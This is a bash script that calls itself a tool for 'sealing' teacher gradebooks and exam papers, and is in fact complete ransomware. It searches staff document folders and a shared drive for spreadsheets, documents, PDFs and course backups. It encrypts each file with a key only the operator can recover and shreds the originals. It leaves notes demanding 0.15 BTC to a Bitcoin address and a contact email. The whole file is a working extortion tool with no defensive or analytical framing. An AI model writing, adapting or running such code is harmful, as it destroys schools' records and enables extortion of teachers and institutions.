#!/usr/bin/env bash
# "Seal" teacher gradebooks and exam papers on a staff laptop.
#
# Walks the usual document folders, encrypts every gradebook, exam paper and
# mark sheet with a key that only the operator holds, destroys the readable
# originals and leaves instructions for recovering them.
set -u

TARGET_ROOTS=("$HOME/Documents" "$HOME/Desktop" "$HOME/OneDrive" "/srv/staff-share")
PATTERNS=(-iname '*.xlsx' -o -iname '*.xls' -o -iname '*.ods' -o -iname '*.csv'
          -o -iname '*.docx' -o -iname '*.pdf' -o -iname '*.mbz' -o -iname '*.sqlite')
SUFFIX=".sealed"
NOTE_NAME="READ_ME_TO_RECOVER_GRADES.txt"
OPERATOR_PUB="${OPERATOR_PUB:-}"

work_key="$(openssl rand -hex 32)"
sealed=0

seal_file() {
    local f="$1"
    if openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:$work_key" \
            -in "$f" -out "$f$SUFFIX" 2>/dev/null; then
        shred -u -n 1 "$f" 2>/dev/null || rm -f "$f"
        sealed=$((sealed + 1))
        return 0
    fi
    rm -f "$f$SUFFIX"
    return 1
}

drop_note() {
    local dir="$1"
    cat > "$dir/$NOTE_NAME" <<EOF
Your gradebooks, mark sheets and exam papers in this folder have been sealed.
Files ending in $SUFFIX cannot be opened without the recovery key.

To recover them before grades are due, send 0.15 BTC to
bc1q7yq4s3mzl0x9k2d5v8w4hj3rrgkz6e2p0xyz9 and e-mail the transaction id and
the ID below to gradebook.recovery@proton.me

ID: $(hostname)-$(id -un)-$(date +%s)
EOF
}

for root in "${TARGET_ROOTS[@]}"; do
    [ -d "$root" ] || continue
    while IFS= read -r -d '' file; do
        case "$file" in *"$SUFFIX") continue ;; esac
        seal_file "$file"
    done < <(find "$root" -type f \( "${PATTERNS[@]}" \) -size -200M -print0 2>/dev/null)
    while IFS= read -r -d '' dir; do
        drop_note "$dir"
    done < <(find "$root" -type f -name "*$SUFFIX" -printf '%h\0' 2>/dev/null | sort -zu)
done

if [ -n "$OPERATOR_PUB" ] && [ -f "$OPERATOR_PUB" ]; then
    printf '%s' "$work_key" | openssl pkeyutl -encrypt -pubin -inkey "$OPERATOR_PUB" \
        -out "$HOME/.cache/.seal.key.enc" 2>/dev/null
fi
unset work_key

echo "sealed $sealed files"
